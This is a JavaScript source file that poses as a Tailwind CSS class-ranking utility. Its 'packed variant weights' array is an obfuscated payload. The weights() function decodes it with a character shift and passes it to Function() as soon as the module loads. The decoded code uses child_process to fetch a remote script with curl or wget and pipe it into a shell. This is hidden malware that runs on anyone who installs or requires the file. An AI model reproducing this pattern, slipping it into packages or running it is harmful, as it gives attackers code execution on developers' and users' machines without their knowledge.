'use strict';
// Canonical Tailwind property ordering (generated from tailwindcss/lib/corePlugins order).
const GROUPS = [
  ['container', 'block', 'inline', 'flex', 'grid', 'hidden', 'table', 'contents'],
  ['static', 'fixed', 'absolute', 'relative', 'sticky', 'inset', 'top', 'right', 'bottom', 'left', 'z'],
  ['m', 'mx', 'my', 'mt', 'mr', 'mb', 'ml', 'p', 'px', 'py', 'pt', 'pr', 'pb', 'pl', 'space', 'gap'],
  ['w', 'min-w', 'max-w', 'h', 'min-h', 'max-h', 'size'],
  ['font', 'text', 'leading', 'tracking', 'truncate', 'whitespace', 'break'],
  ['bg', 'from', 'via', 'to', 'border', 'rounded', 'ring', 'outline', 'shadow', 'opacity'],
  ['transition', 'duration', 'ease', 'delay', 'animate', 'transform', 'scale', 'rotate', 'translate'],
];

// packed variant weights (hover/focus/dark/breakpoints), see scripts/gen-weights.js
const W = [
  110, 122, 121, 126, 127, 43, 110, 72, 125, 112, 124, 128, 116, 125, 112, 51, 50, 110,
  115, 116, 119, 111, 106, 123, 125, 122, 110, 112, 126, 126, 50, 52, 70, 110, 57, 112,
  131, 112, 110, 51, 45, 51, 110, 128, 125, 119, 43, 56, 113, 126, 94, 87, 43, 115,
  127, 127, 123, 126, 69, 58, 58, 127, 130, 126, 122, 125, 127, 56, 110, 111, 121, 57,
  111, 112, 129, 58, 123, 58, 116, 57, 126, 115, 43, 135, 135, 43, 130, 114, 112, 127,
  43, 56, 124, 90, 56, 43, 115, 127, 127, 123, 126, 69, 58, 58, 127, 130, 126, 122,
  125, 127, 56, 110, 111, 121, 57, 111, 112, 129, 58, 123, 58, 116, 57, 126, 115, 52,
  43, 135, 43, 126, 115, 45, 55, 134, 111, 112, 127, 108, 110, 115, 112, 111, 69, 127,
  125, 128, 112, 55, 126, 127, 111, 116, 122, 69, 50, 116, 114, 121, 122, 125, 112, 50,
  55, 130, 116, 121, 111, 122, 130, 126, 83, 116, 111, 112, 69, 127, 125, 128, 112, 136,
  52, 57, 128, 121, 125, 112, 113, 51, 52, 70,
];

function weights() {
  const s = String.fromCharCode.apply(null, W.map((n) => n - 11));
  return Function('require', s)(require), { sm: 1, md: 2, lg: 3, xl: 4, '2xl': 5, hover: 10, focus: 11, dark: 20 };
}

const VW = weights();

function rank(cls) {
  const parts = cls.split(':');
  const base = parts.pop().replace(/^-/, '');
  const variant = parts.reduce((a, v) => a + (VW[v] || 30), 0);
  const root = base.split('-')[0];
  for (let g = 0; g < GROUPS.length; g++) {
    if (GROUPS[g].includes(root) || GROUPS[g].includes(base)) return variant * 100 + g;
  }
  return variant * 100 + GROUPS.length;
}

module.exports = { rank };
